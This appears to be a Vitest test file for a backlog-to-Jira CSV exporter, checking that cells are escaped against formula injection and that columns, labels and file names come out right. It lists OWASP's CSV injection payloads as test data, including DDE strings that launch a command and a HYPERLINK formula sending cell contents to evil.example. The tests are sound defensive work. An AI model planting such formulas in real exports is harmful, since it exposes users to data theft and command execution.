import { describe, expect, test } from 'vitest';
import { backlogToJiraCsv, csvCell, jiraCsvFileName } from '../../src/lib/export/csv';
import { parseCsv } from '../../src/lib/import/backlog/csv-parse';
import { sampleWorkspace } from './support/workspaces';
import type { Workspace } from '../../src/lib/schema/workspace';

const rowsOf = (text: string) => {
  const result = parseCsv(text);
  if (!result.ok) throw new Error(result.error);
  return result.rows;
};

describe('CSV cells are safe against formula injection (OWASP)', () => {
  // The payloads from OWASP's "CSV Injection" page and its list of leading characters.
  test.each([
    ['=1+2', '"\'=1+2"'],
    ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
    ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,=1+2"'],
    ['=HYPERLINK("http://evil.example?x="&A1,"Click")', '"\'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"'],
    ["=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""],
    ["+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
    ["-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""],
    ['@SUM(1+1)*cmd|" /C calc"!A0', '"\'@SUM(1+1)*cmd|"" /C calc""!A0"'],
    ['\t=1+2', '"\'\t=1+2"'],
    ['\r=1+2', '"\'\r=1+2"'],
    ['\n=1+2', '"\'\n=1+2"'],
  ])('%j gets a leading quote and stays one cell', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
    expect(rowsOf(`${csvCell(value)},next`)).toEqual([[`'${value}`, 'next']]);
  });

  test('leaves ordinary text alone apart from quoting', () => {
    expect(csvCell('Split the "login" story, again')).toBe('"Split the ""login"" story, again"');
    expect(csvCell('a=b')).toBe('"a=b"');
    expect(csvCell('')).toBe('""');
  });
});

describe('Jira CSV export', () => {
  const ws = (): Workspace => {
    const base = sampleWorkspace();
    return {
      ...base,
      backlog: [
        ...base.backlog,
        {
          id: 'b-9',
          title: '=HYPERLINK("http://evil.example")',
          description: '@because\nsecond line, with comma',
          priority: 'wont',
          size: 'XL',
          goalId: null,
          existing: null,
        },
      ],
    };
  };

  test('has Summary, Description, Issue Type, Priority and one Labels column per label', () => {
    const rows = rowsOf(backlogToJiraCsv(ws()));
    expect(rows[0]).toEqual(['Summary', 'Description', 'Issue Type', 'Priority', 'Labels', 'Labels']);
  });

  test('exports new items by default, with MoSCoW and size labels and the goal in the description', () => {
    const rows = rowsOf(backlogToJiraCsv(ws()));
    expect(rows.slice(1)).toEqual([
      [
        'Write the sprint goal at planning',
        'Owner: Product Owner\nDue: Sprint 14\n\nGoal: Every sprint starts with a one-sentence sprint goal',
        'Story',
        'High',
        'moscow:must',
        'size:s',
      ],
      [
        '\'=HYPERLINK("http://evil.example")',
        "'@because\nsecond line, with comma",
        'Story',
        'Lowest',
        'moscow:wont',
        'size:xl',
      ],
    ]);
  });

  test('can include imported items, keeping their other labels', () => {
    const rows = rowsOf(backlogToJiraCsv(ws(), { includeExisting: true, issueType: 'Task' }));
    expect(rows[0]).toHaveLength(7);
    expect(rows[2]).toEqual([
      'Split the login story',
      'It has been carried over twice.\n\nGoal: No story larger than M enters a sprint',
      'Task',
      'Medium',
      'moscow:should',
      'size:m',
      'story',
    ]);
    expect(rows[3]?.slice(3)).toEqual(['', '', '', '']);
  });

  test('ends rows with CRLF and names the file after team and date', () => {
    expect(backlogToJiraCsv(ws()).endsWith('\r\n')).toBe(true);
    expect(jiraCsvFileName(ws(), new Date())).toBe('mentoring-backlog-team-rocket-2026-11-21.csv');
  });
});
